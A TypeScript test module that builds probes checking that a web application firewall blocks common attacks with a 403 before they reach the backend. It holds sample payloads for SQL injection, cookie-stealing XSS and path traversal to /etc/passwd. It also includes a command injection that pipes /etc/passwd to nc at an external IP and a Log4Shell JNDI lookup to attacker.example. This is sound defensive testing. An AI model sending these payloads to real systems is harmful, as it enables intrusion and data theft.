import { backendUntouched, distributionUntouched, everyRefusedByGateway, frontDoorUntouched } from "../checks";
import type { Probe } from "../probe";
import { throughExternalHost, type RequestParts } from "../requests";
import { resourcesOf } from "../resources";
import type { ProbeTarget } from "../target";
import { type ProbeRequest, VantagePointName } from "../vantagePoint";
import { Extent } from "./extent";
import { METHOD_OVERRIDES } from "./methodOverrides";
import { clientsElsewhere } from "./places";

/** In the query, in a document, and past the method that the rules looked at. */
const FEW = ["attack-sql-query", "attack-sql-json", "attack-method-override"];

interface Attack {
  id: string;
  title: string;
  parts: RequestParts;
}

/** What the WAF must stop: one plain example of each family, through the front entrance. Nobody signs them. */
export function attackProbes(target: ProbeTarget, extent: Extent): Probe[] {
  const attacks = attacksOn(target).filter(({ id }) => extent === Extent.Whole || FEW.includes(id));
  const reading = attacks.filter(({ parts }) => parts.json === undefined);
  return [
    ...attacks.map(({ id, title, parts }) =>
      refused(target, VantagePointName.Internet, id, title, [throughExternalHost(target, parts)]),
    ),
    ...clientsElsewhere(extent).map(({ from, name }) =>
      refused(
        target,
        from,
        `attacks-${name}`,
        "the same attacks from elsewhere",
        reading.map(({ parts }) => throughExternalHost(target, parts)),
      ),
    ),
  ];
}

function attacksOn({ samplePath, writePath }: ProbeTarget): Attack[] {
  const query = (text: string): RequestParts => ({ path: `${samplePath}?q=${encodeURIComponent(text)}` });
  return [
    {
      id: "attack-sql-query",
      title: "SQL injection in the query",
      parts: query("1' UNION SELECT name, password FROM users-- -"),
    },
    {
      id: "attack-sql-json",
      title: "SQL injection in JSON",
      parts: {
        method: "POST",
        path: writePath ?? samplePath,
        json: JSON.stringify({ name: "x' OR '1'='1' UNION SELECT password FROM users-- -" }),
      },
    },
    {
      id: "attack-xss",
      title: "cross-site scripting",
      parts: query("<script>alert(document.cookie)</script>"),
    },
    {
      id: "attack-big-document",
      title: "SQL injection at the end of a big document",
      parts: {
        method: "POST",
        path: writePath ?? samplePath,
        json: JSON.stringify({
          note: "Ring twice, the bell is quiet. ".repeat(9_000),
          name: "x' OR '1'='1' UNION SELECT password FROM users-- -",
        }),
      },
    },
    { id: "attack-path-traversal", title: "path traversal", parts: query("../../../../etc/passwd") },
    {
      id: "attack-command-injection",
      title: "command injection",
      parts: query("127.0.0.1; cat /etc/passwd | nc 198.51.100.66 9"),
    },
    {
      id: "attack-log4shell",
      title: "Log4Shell in a header",
      parts: { path: samplePath, headers: [["X-Api-Version", "${jndi:ldap://attacker.example/a}"]] },
    },
    {
      id: "attack-method-override",
      title: "another method in a header than in the request line",
      parts: { path: samplePath, headers: METHOD_OVERRIDES.map((name) => [name, "OPTIONS"]) },
    },
  ];
}

function refused(
  target: ProbeTarget,
  from: VantagePointName,
  id: string,
  title: string,
  requests: ProbeRequest[],
): Probe {
  const { wafRules } = resourcesOf(target);
  const answers = "403 by the gateway";
  return {
    id,
    title,
    from,
    requests,
    expectation: `${answers}; nothing beyond it saw the request`,
    observed: true,
    judge: (evidence) => [
      ...everyRefusedByGateway(evidence, wafRules),
      ...distributionUntouched(evidence, wafRules),
      ...frontDoorUntouched(evidence, wafRules),
      ...backendUntouched(evidence, wafRules),
    ],
    byAnswers: { expectation: answers, judge: (evidence) => everyRefusedByGateway(evidence, wafRules) },
  };
}
